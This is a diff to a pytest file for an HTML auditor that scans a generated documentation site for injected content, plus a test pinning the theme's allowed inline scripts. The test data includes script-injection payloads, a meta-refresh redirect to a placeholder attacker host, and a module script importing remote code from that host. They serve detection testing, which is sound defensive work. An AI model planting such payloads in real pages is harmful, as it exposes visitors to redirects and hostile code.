@@ -21,7 +21,7 @@ def page(article: str = "", chrome: str = "") -> str:
         '<link rel="stylesheet" href="../../assets/tracker.css"></head><body>'
         '<form class="md-search__form" name="search"><input></form>'
         f"{chrome}<article class=\"md-content__inner\"><h1>A</h1>{article}</article>"
-        "<script>var __md_scope = 1;</script></body></html>"
+        '<script id="__config" type="application/json">{"base": "../.."}</script></body></html>'
     )
 
 
@@ -56,6 +56,35 @@ def test_clean_page_passes():
 )
 def test_each_rule_fires(article, finding):
     assert finding in audit(page(article))
+
+
+@pytest.mark.parametrize(
+    ("chrome", "finding"),
+    [  # what a value from site.yaml could inject into the theme's part of every page
+        ('<link rel="canonical" href="https://x/"><script>alert(1)</script>', "inline script that is not the theme's own"),
+        ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "<meta http-equiv=refresh>: a redirect"),
+        ('<meta http-equiv=" Refresh " content="0">', "<meta http-equiv=refresh>: a redirect"),
+        ('<script type="application/json" id="other">{}</script>', "inline script that is not the theme's own"),
+        ('<script type="module">import("https://evil.example/x.js")</script>', "inline script that is not the theme's own"),
+    ],
+)
+def test_the_themes_part_of_the_page_is_audited_too(chrome, finding):
+    assert finding in audit(page(chrome=chrome))
+
+
+def test_theme_inline_scripts_are_exactly_the_themes(bundled_site):
+    """THEME_INLINE_SCRIPTS is re-derived from a real build: every inline script the theme writes is allowed,
+    and the allowlist holds nothing the theme does not write (a theme upgrade fails here, deliberately)."""
+    from selectolax.lexbor import LexborHTMLParser
+
+    from tracker.audit import THEME_INLINE_SCRIPTS, inline_script_digest
+
+    seen = set()
+    for html in bundled_site.rglob("*.html"):
+        for node in LexborHTMLParser(html.read_text()).css("script"):
+            if "src" not in node.attributes and node.attributes.get("type") != "application/json":
+                seen.add(inline_script_digest(node.text() or ""))
+    assert seen == THEME_INLINE_SCRIPTS
 
 
 def test_script_in_chrome_must_be_the_themes():
